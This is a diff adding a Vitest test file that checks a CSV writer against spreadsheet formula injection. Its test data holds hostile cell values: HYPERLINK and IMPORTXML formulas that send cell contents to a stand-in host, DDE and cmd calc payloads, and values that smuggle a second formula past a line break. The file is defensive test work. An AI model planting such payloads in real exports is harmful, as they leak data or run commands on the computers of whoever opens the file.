@@ -1,0 +1,67 @@
+import { parse } from 'csv-parse/sync';
+import { describe, expect, test } from 'vitest';
+import { writeCsv } from './write-csv';
+
+const STARTS = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t=',
+  '\r=',
+  '\n=',
+  ' =',
+  '\u00a0=',
+  '\u200b=',
+  '\ufeff=',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  '"=',
+  "'=",
+];
+const BODIES = [
+  '1+1',
+  'HYPERLINK("https://evil.example?x="&A1,"Open")',
+  "cmd|' /C calc'!A0",
+  'IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
+  'DDE("cmd";"/C calc";"x")',
+  'SUM(1;2)\r\n=SUM(3)',
+  '1,2",=3,"4',
+  '2;=3\t=4',
+  '',
+  'a'.repeat(2_000),
+  '"",=1',
+  'x\n=y',
+];
+const HOSTILE = STARTS.flatMap((start) => BODIES.map((body) => start + body));
+
+/** As a spreadsheet reads it. */
+const read = (text: string): string[][] => parse(text, { bom: true, relax_column_count: true });
+
+describe('a table for spreadsheets', () => {
+  test('begins with the mark of UTF-8, and ends lines with CR and LF', () => {
+    expect(writeCsv(['Name', 'Notes'], [['Ng’ang’a', 'ndiyo, "sana"']])).toBe(
+      '\ufeffName,Notes\r\nNg’ang’a,"ndiyo, ""sana"""\r\n',
+    );
+  });
+
+  test('over 200 hostile cells begin with nothing that a formula begins with, and stay one cell each', () => {
+    expect(HOSTILE.length).toBeGreaterThan(200);
+    const rows = read(
+      writeCsv(
+        ['cell', 'next'],
+        HOSTILE.map((cell) => [cell, 'next']),
+      ),
+    ).slice(1);
+    expect(rows).toHaveLength(HOSTILE.length);
+    expect(rows.every((row) => row.length === 2 && row[1] === 'next')).toBe(true);
+    expect(rows.filter(([cell = '']) => /^[=+\-@＝＋－＠\s\p{C}]/u.test(cell))).toEqual([]);
+  });
+
+  test('leaves names, addresses and numbers as they are', () => {
+    const cells = ['Mary-Anne', 'Anyang’', 'a+b@example.com', '0712345678', '2026-11-23', ''];
+    expect(read(writeCsv(cells, []))).toEqual([cells]);
+  });
+});
